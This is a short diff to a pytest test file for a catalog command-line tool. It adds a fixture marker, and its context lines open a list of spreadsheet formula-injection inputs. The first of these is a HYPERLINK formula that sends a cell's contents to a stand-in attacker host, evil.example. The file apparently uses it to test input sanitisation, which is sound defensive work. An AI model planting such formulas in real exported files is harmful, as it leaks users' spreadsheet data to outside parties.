@@ -18,6 +18,8 @@ from conftest import catalog_data, write_catalog
 from catalog_tui.cli import main
 from catalog_tui.core.text import UNSAFE_CHARACTERS
 
+pytestmark = pytest.mark.usefixtures("english")  # these read the CLI's English messages
+
 # The seven ways a cell starts a formula: OWASP's = + - @ tab CR, and LF.
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
